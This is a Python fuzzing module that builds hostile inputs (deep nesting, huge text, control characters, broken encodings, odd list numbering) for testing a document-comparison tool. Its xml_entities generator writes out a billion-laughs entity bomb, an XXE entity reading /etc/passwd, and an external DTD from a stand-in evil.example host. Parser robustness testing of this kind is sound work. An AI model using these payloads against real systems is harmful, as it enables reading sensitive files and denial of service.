"""Hostile fuzzing inputs built on purpose, for `fuzz.py` (through `fuzz_cases`).

Each generator makes a base and a draft: list numbering with huge, negative or
garbage values (HTML `<ol start>`/`<li value>`, Word `w:start`/`w:ilvl`/`w:numFmt`),
deep nesting, brackets (nested, unclosed, thousands resolved), encodings (legacy
code pages, UTF-16/32 with and without a BOM, invalid bytes), control characters,
huge paragraphs, damaged zip files and PDF structures. Paragraph lists are
written in the case's input format by `render()`.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from xml.sax.saxutils import escape

from fuzz_binary import (
    HOSTILE_VALUES,
    WORDS,
    _w_doc,
    _w_p,
    docx,
    docx_nesting,
    docx_numbering,
    docx_sym,
    pdf_hostile,
    plain,
    words,
    zip_damage,
)

Paragraphs = list[tuple[str, str]]  # (label, text)
AKN_NS = "http://docs.oasis-open.org/legaldocml/ns/akn/3.0"
CODECS = (
    "cp1252",
    "cp1251",
    "cp1256",
    "gb18030",
    "big5",
    "shift_jis",
    "latin-1",
    "koi8-r",
    "utf-16-le",
    "utf-16-be",
    "utf-16",
    "utf-32-le",
    "utf-32-be",
    "utf-32",
    "utf-8-sig",
    "utf-7",
    "cp437",
    "mac-roman",
    "iso-8859-6",
    "euc-kr",
)
SAMPLES = (
    "Reaffirming the Charter of the United Nations, States shall ensure human rights.",
    "Réaffirmant la Charte des Nations Unies, les États veillent aux droits.",
    "Подтверждая Устав Организации Объединенных Наций, государства обеспечивают.",
    "إذ تؤكد من جديد ميثاق الأمم المتحدة، تكفل الدول حقوق الإنسان.",
    "重申《联合国宪章》，各国应确保人权。",
    "Reafirmando la Carta, los Estados garantizarán.",
)
# --- paragraph generators (any format) ---------------------------------------------


def brackets(rng: random.Random) -> tuple[Paragraphs, Paragraphs, str]:
    n = rng.choice((50, 1000, 5000, 20000))
    op = rng.choice(("nested", "unclosed", "closing", "resolved", "alternatives"))
    body = plain(rng, 4)
    if op == "nested":
        text = "[" * n + words(rng, 5) + "]" * rng.choice((n, n // 2, 0))
    elif op == "unclosed":
        text = " ".join(f"[{rng.choice(WORDS)}" for _ in range(n))
    elif op == "closing":
        text = "]" * n + " text"
    else:
        parts = [f"[{words(rng, 2)}][{words(rng, 1)}]" for _ in range(n // 10 + 1)]
        text = " ".join(parts)
    resolved = re.sub(r"[\[\]]", "", text) if op in ("resolved", "alternatives") else "x"
    return body + [("9.", text)], body + [("9.", resolved)], f"brackets {op} x{n}"


def controls(rng: random.Random) -> tuple[Paragraphs, Paragraphs, str]:
    chars = [chr(c) for c in (*range(0, 32), *range(0x7F, 0xA0))] + [
        "\u2028",
        "\ufeff",
        "\u202e",
        "\u200b",
        "\ufffe",
        "\U0010ffff",
        "\u061c",
    ]
    base = plain(rng)
    count = rng.choice((1, 8, 100, 5000))
    draft = [(lab, _sprinkle(text, chars, rng, count // 8 + 1)) for lab, text in base]
    return base, draft, f"{count} control characters"


def _sprinkle(text: str, chars: list[str], rng: random.Random, count: int) -> str:
    out = list(text)
    for _ in range(count):
        out.insert(rng.randrange(len(out) + 1), rng.choice(chars))
    return "".join(out)


def huge(rng: random.Random) -> tuple[Paragraphs, Paragraphs, str]:
    op = rng.choice(("paragraph", "many", "every-other", "no-spaces", "changes"))
    if op == "paragraph":
        text = words(rng, 120_000)
        return [("1.", text)], [("1.", text.replace(" shall ", " should ", 10))], "120k words"
    if op == "many":
        base = [(f"{n}.", words(rng, 3)) for n in range(1, 30_001)]
        return base, base[::-1], "30k paragraphs reversed"
    if op == "every-other":
        tokens = words(rng, 10_000).split()
        other = [t if i % 2 else t + "x" for i, t in enumerate(tokens)]
        return [("1.", " ".join(tokens))], [("1.", " ".join(other))], "every other word changed"
    if op == "no-spaces":
        text = "a" * 900_000
        return [("1.", text)], [("1.", text[:450_000] + "b" + text[450_000:])], "900k-char word"
    base = plain(rng, 3000)
    draft = [(lab, text.replace("the", "a", 1)) for lab, text in base]
    return base, draft, "3000 paragraphs each changed"


def labels(rng: random.Random) -> tuple[Paragraphs, Paragraphs, str]:
    value = rng.choice(
        HOSTILE_VALUES[:8] + ("(" + "m" * 2000 + ")", "(zzzzzzzzzz)", "MMMMMMMMMM.")
    )
    base = plain(rng)
    draft = [(value if i % 2 else lab, text) for i, (lab, text) in enumerate(base)]
    return base, draft, f"labels {value[:20]!r}"


def nesting_text(rng: random.Random) -> tuple[Paragraphs, Paragraphs, str]:
    depth = rng.choice((100, 2000, 20000))
    mark = rng.choice(("> ", "  - ", "\t", "(a) ", "* "))
    base = plain(rng, 3)
    return base, base + [("", mark * depth + "deep")], f"{mark!r} x{depth}"


PARAGRAPH_GENERATORS: dict[str, Callable] = {
    "brackets": brackets,
    "controls": controls,
    "huge": huge,
    "labels": labels,
    "nesting": nesting_text,
}

# --- format-specific generators ----------------------------------------------------


def encodings(rng: random.Random, fmt: str) -> tuple[bytes, bytes, str]:
    codec = rng.choice(CODECS)
    text = "\n\n".join(f"{n}. {rng.choice(SAMPLES)}" for n in range(1, 12))
    data = _document(fmt, text).encode(codec, "replace")
    if rng.random() < 0.4:
        at = rng.randrange(len(data) + 1)
        data = (
            data[:at]
            + rng.choice((b"\xff\xfe", b"\xc3", b"\xed\xa0\x80", b"\x00\x00"))
            + data[at:]
        )
    return _document(fmt, text).encode(), data, f"encoding {codec}"


def _document(fmt: str, text: str) -> str:
    if fmt == "html":
        paragraphs = text.replace("\n\n", "</p><p>")
        return f"<!DOCTYPE html><html><body><p>{paragraphs}</p></body></html>"
    return text


def html_numbering(rng: random.Random) -> tuple[bytes, bytes, str]:
    start, value = rng.choice(HOSTILE_VALUES), rng.choice(HOSTILE_VALUES)
    kind = rng.choice(("1", "a", "A", "i", "I", "x", ""))
    items = "".join(
        f"<li value='{value}'>{words(rng, 9)}</li><li>{words(rng, 5)}</li>" for _ in range(3)
    )
    hostile = f"<ol start='{start}' type='{kind}'{rng.choice(('', ' reversed'))}>{items}</ol>"
    plain_list = "<ol>" + re.sub(r" value='[^']*'", "", items) + "</ol>"
    page = "<!DOCTYPE html><html><body><p>Preamble text.</p>{}</body></html>"
    return (
        page.format(plain_list).encode(),
        page.format(hostile).encode(),
        f"ol {start[:9]!r} {value[:9]!r} {kind}",
    )


def html_nesting(rng: random.Random) -> tuple[bytes, bytes, str]:
    tag = rng.choice(("div", "ol><li", "blockquote", "table><tr><td", "span", "b"))
    depth = rng.choice((200, 5000, 50000))
    close = "".join(f"</{t}>" for t in reversed(tag.split("><")))
    deep = f"<{tag}>" * depth + words(rng, 6) + close * rng.choice((depth, 0))
    page = "<!DOCTYPE html><html><body><p>Text one.</p>{}</body></html>"
    return page.format("<p>x</p>").encode(), page.format(deep).encode(), f"<{tag}> x{depth}"


def xml_entities(rng: random.Random, fmt: str) -> tuple[bytes, bytes, str]:
    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    dtd = rng.choice(
        (
            f'<!DOCTYPE r [<!ENTITY l0 "lol">{lol}]>',
            '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">',
        )
    )
    ref = "&l9;" if "l9" in dtd else "&x;"
    body = (
        render_akn([("1.", "Text " + ref)])
        if fmt == "xml"
        else f"<html><body><p>{ref}</p></body></html>"
    )
    return render(fmt, [("1.", "Text")]), ('<?xml version="1.0"?>' + dtd + body).encode(), dtd[:40]


def akn_numbering(rng: random.Random) -> tuple[bytes, bytes, str]:
    notes = rng.choice((10, 3000))
    base = plain(rng, 5)
    draft = [
        (rng.choice(HOSTILE_VALUES), t + "<authorialNote><p>n</p></authorialNote>" * (notes // 5))
        for _, t in base
    ]
    return (
        render("xml", base),
        render_akn(draft, raw=True).encode(),
        f"akn {notes} notes, hostile num",
    )


def render(fmt: str, paragraphs: Paragraphs) -> bytes:
    """The paragraphs in an input format (PDF keeps Latin-1 only)."""
    from fuzz_cases import html_document, pdf_document  # noqa: PLC0415

    text = "\n\n".join(f"{label} {body}".strip() for label, body in paragraphs)
    if fmt == "docx":
        return docx(
            {"word/document.xml": _w_doc("".join(_w_p(f"{lab} {t}") for lab, t in paragraphs))}
        )
    if fmt == "pdf":
        return pdf_document(text)
    if fmt == "html":
        return html_document(text).encode("utf-8", "surrogatepass")
    if fmt == "xml":
        return render_akn(paragraphs).encode("utf-8", "surrogatepass")
    return text.encode("utf-8", "surrogatepass")


def render_akn(paragraphs: Paragraphs, raw: bool = False) -> str:
    """An Akoma Ntoso resolution with one numbered paragraph per item."""

    def body(text: str) -> str:
        return text if raw else escape(text)

    items = "".join(
        f"<paragraph><num>{escape(lab)}</num><content><p>{body(t)}</p></content></paragraph>"
        for lab, t in paragraphs
    )
    return (
        f'<akomaNtoso xmlns="{AKN_NS}"><doc name="resolution"><meta/><mainBody>{items}'
        "</mainBody></doc></akomaNtoso>"
    )


FORMAT_GENERATORS: dict[str, dict[str, Callable]] = {
    "html": {"numbering": html_numbering, "nesting": html_nesting},
    "docx": {
        "numbering": docx_numbering,
        "sym": docx_sym,
        "nesting": docx_nesting,
        "zip": zip_damage,
    },
    "pdf": {"structure": pdf_hostile},
    "xml": {"numbering": akn_numbering},
}


def generate(fmt: str, rng: random.Random, seeds: dict) -> tuple[str, bytes, bytes, str]:
    """A hostile pair for the format: (generator name, base, draft, note)."""
    own = FORMAT_GENERATORS.get(fmt, {})
    extra = ["encodings", "entities"] if fmt in ("txt", "md", "html", "xml") else []
    name = rng.choice([*PARAGRAPH_GENERATORS, *own, *own, *extra])
    if name in own:
        return (name, *own[name](rng))
    if name == "encodings":
        return (name, *encodings(rng, fmt))
    if name == "entities":
        return (name, *xml_entities(rng, fmt))
    base, draft, note = PARAGRAPH_GENERATORS[name](rng)
    return name, render(fmt, base), render(fmt, draft), note
